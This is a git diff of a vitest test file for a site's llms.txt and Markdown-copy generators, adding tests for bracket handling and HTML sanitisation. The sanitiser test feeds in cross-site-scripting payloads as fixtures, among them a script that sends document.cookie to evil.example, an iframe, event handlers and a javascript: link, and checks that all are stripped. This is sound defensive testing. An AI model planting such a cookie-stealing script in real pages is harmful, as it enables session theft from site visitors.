@@ -4,7 +4,7 @@ import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { buildLlmsFullTxt, buildLlmsTxt, buildMarkdownCopy } from '@/lib/llms';
 import { writeBesidePages } from '../scripts/post-export';
-import { parseLlmsTxt } from './helpers/llms-parser';
+import { parseLlmsTxt, referenceParseLlms } from './helpers/llms-parser';
 import { makeContent, makePage, makePost } from './helpers/make-content';
 
 function sample() {
@@ -36,7 +36,7 @@ describe('buildLlmsTxt', () => {
     expect(file.details.length).toBe(1);
     expect(file.sections.map((s) => s.name)).toEqual(['Posts', 'Pages', 'Optional']);
     const [posts, pages, optional] = file.sections;
-    expect(posts.links.map((l) => l.title)).toEqual(['A [tricky] \\ title', 'Older']);
+    expect(posts.links.map((l) => l.title)).toEqual(['A ［tricky］ \\ title', 'Older']);
     expect(posts.links[0].url).toBe('https://user.github.io/field-notes/posts/newer/index.html.md');
     expect(posts.links[0].notes).toBe('Line one line two spaced');
     expect(pages.links).toEqual([{ title: 'About', url: 'https://user.github.io/field-notes/about/index.html.md', notes: 'A description.' }]);
@@ -44,6 +44,19 @@ describe('buildLlmsTxt', () => {
     expect(optionalUrls).toContain('https://user.github.io/field-notes/tags/web/');
     expect(optionalUrls).toContain('https://user.github.io/field-notes/rss.xml');
     expect(optionalUrls).toContain('https://user.github.io/field-notes/llms-full.txt');
+  });
+
+  it('parses with the llmstxt.org reference parser, titles with square brackets included', () => {
+    const titles = ['Array[T] in ] practice', 'Escaped \\] bracket', '[Draft] notes', 'C:\\temp'];
+    const content = makeContent({ posts: titles.map((title, i) => makePost({ slug: `p${i}`, title, description: 'See [this]: ok', date: new Date(Date.UTC(2025, 0, 10 - i)) })) });
+    const file = referenceParseLlms(buildLlmsTxt(content));
+    expect(file.title).toBe('Test Site');
+    // Square brackets read as their full-width forms; everything else as written.
+    expect(file.sections.Posts.map((l) => l.title)).toEqual(['Array［T］ in ］ practice', 'Escaped \\］ bracket', '［Draft］ notes', 'C:\\temp']);
+    expect(file.sections.Posts.map((l) => l.url)).toEqual(titles.map((_, i) => `https://example.com/posts/p${i}/index.html.md`));
+    expect(file.sections.Posts[0].desc).toBe('See [this]: ok');
+    // The strict CommonMark-minded reader agrees.
+    expect(parseLlmsTxt(buildLlmsTxt(content)).sections[0].links.map((l) => l.title)).toEqual(file.sections.Posts.map((l) => l.title));
   });
 
   it('percent-encodes parentheses and spaces in URLs and omits empty sections', () => {
@@ -94,6 +107,53 @@ describe('buildMarkdownCopy', () => {
     expect(copy).toContain('[r]: https://user.github.io/field-notes/posts/c/');
     expect(copy).toContain('[root](https://user.github.io/field-notes/rss.xml)');
     expect(copy).not.toMatch(/\]\((?!https:)/);
+  });
+
+  it('sanitises raw HTML tag by tag as the page does, and keeps the Markdown and code around it as written', async () => {
+    const markdown = [
+      'Press <kbd onclick="steal()">Ctrl</kbd> and <script>alert(1)</script>done. <!-- note to self -->',
+      '',
+      '<script>',
+      'fetch("https://evil.example/?c=" + document.cookie)',
+      '</script>',
+      '',
+      '<div class="note" style="color:red"><a href="javascript:alert(1)">x</a> <img src="https://cdn.example/a.png" onerror="y()"></div>',
+      '',
+      '> <iframe src="https://evil.example/"></iframe>Quoted **bold**',
+      '',
+      '`<script>in a code span</script>`',
+      '',
+      '```html',
+      '<script>in a code block</script>',
+      '```',
+      '',
+    ].join('\n');
+    const entry = makePost({ slug: 'html', markdown });
+    const body = buildMarkdownCopy(entry, makeContent({ posts: [entry] })).split('\n\n').slice(2).join('\n\n');
+    expect(body).toBe(
+      [
+        'Press <kbd>Ctrl</kbd> and done. ',
+        '',
+        '',
+        '',
+        '<div><a>x</a> <img src="https://cdn.example/a.png"></div>',
+        '',
+        '> Quoted **bold**',
+        '',
+        '`<script>in a code span</script>`',
+        '',
+        '```html',
+        '<script>in a code block</script>',
+        '```',
+        '',
+      ].join('\n'),
+    );
+    // The compile records the same spans as a fresh parse.
+    const { compileMarkdown } = await import('@/lib/markdown');
+    const resolver = { basePath: '', resolve: async (url: string) => ({ kind: 'external' as const, url }) };
+    const compiled = await compileMarkdown(markdown, resolver, { site: { url: 'https://example.com' }, path: '/posts/html/' });
+    expect(buildMarkdownCopy({ ...entry, copySpans: compiled.copySpans }, makeContent({ posts: [entry] }))).toBe(buildMarkdownCopy(entry, makeContent({ posts: [entry] })));
+    expect(compiled.html).not.toContain('<script');
   });
 
   it('is written for every post and page at <path>index.html.md', async () => {
